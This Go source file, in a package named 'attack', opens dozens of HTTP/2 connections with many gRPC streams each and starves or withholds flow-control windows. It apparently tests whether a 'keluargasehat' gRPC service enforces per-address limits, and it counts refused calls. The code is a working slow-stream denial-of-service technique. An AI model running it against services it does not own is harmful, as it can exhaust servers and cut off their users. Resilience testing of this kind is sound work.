package attack

import (
	"bytes"
	"context"
	"crypto/tls"
	"io"
	"sync"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc/health/grpc_health_v1"
)

// openConnections, of openStreams each, hold calls at one time: more than an address may in all.
const (
	openConnections = 40
	openStreams     = 64
)

// untakenReplies asks, without an account, and takes no replies.
func untakenReplies(ctx context.Context, a *attacker) error {
	return a.openCalls(ctx, 0, []string{grpc_health_v1.Health_Check_FullMethodName}, make([]byte, 5))
}

// silentCalls begins calls, without an account, and says nothing.
func silentCalls(ctx context.Context, a *attacker) error {
	return a.openCalls(ctx, 1<<16, []string{grpc_health_v1.Health_Check_FullMethodName, signInMethod, "/keluargasehat.v1.SyncService/Deposit"}, nil)
}

// openCalls holds calls of the methods; window is what each takes of its reply, message what it
// sends. Those whose connection the server closes come anew.
func (a *attacker) openCalls(ctx context.Context, window uint32, methods []string, message []byte) error {
	var wait sync.WaitGroup
	for range openConnections {
		wait.Go(func() {
			for pause(ctx, silentPause) {
				round, end := context.WithTimeout(ctx, heldTime)
				a.openOn(round, window, methods, message)
				end()
			}
		})
	}
	wait.Wait()
	return nil
}

// openOn holds calls on one connection until the context ends or the server closes it.
func (a *attacker) openOn(ctx context.Context, window uint32, methods []string, message []byte) {
	conf := a.tls.Clone()
	conf.NextProtos = []string{"h2"}
	conn, err := (&tls.Dialer{NetDialer: &a.dialer, Config: conf}).DialContext(ctx, "tcp", a.address)
	if err != nil {
		a.refusedOne()
		return
	}
	defer conn.Close()
	defer context.AfterFunc(ctx, func() { conn.Close() })()
	framer := http2.NewFramer(conn, conn)
	if _, err = io.WriteString(conn, http2.ClientPreface); err == nil {
		err = framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
	}
	for i := range uint32(openStreams) {
		a.triedOne()
		if err == nil {
			err = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*i + 1, BlockFragment: callHead(methods[int(i)%len(methods)]), EndHeaders: true})
		}
		if err == nil && message != nil {
			err = framer.WriteData(2*i+1, true, message)
		}
	}
	if err == nil {
		_, err = io.Copy(io.Discard, conn)
	}
	if err != nil && ctx.Err() == nil {
		a.refusedOne()
	}
}

// callHead is the header list of a call.
func callHead(method string) []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	encoder.SetMaxDynamicTableSize(0) // each by itself
	for _, h := range [][2]string{
		{":method", "POST"}, {":scheme", "https"}, {":path", method}, {":authority", "x"}, {"content-type", "application/grpc"}, {"te", "trailers"},
	} {
		if encoder.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}) != nil {
			return nil // a buffer takes all
		}
	}
	return block.Bytes()
}
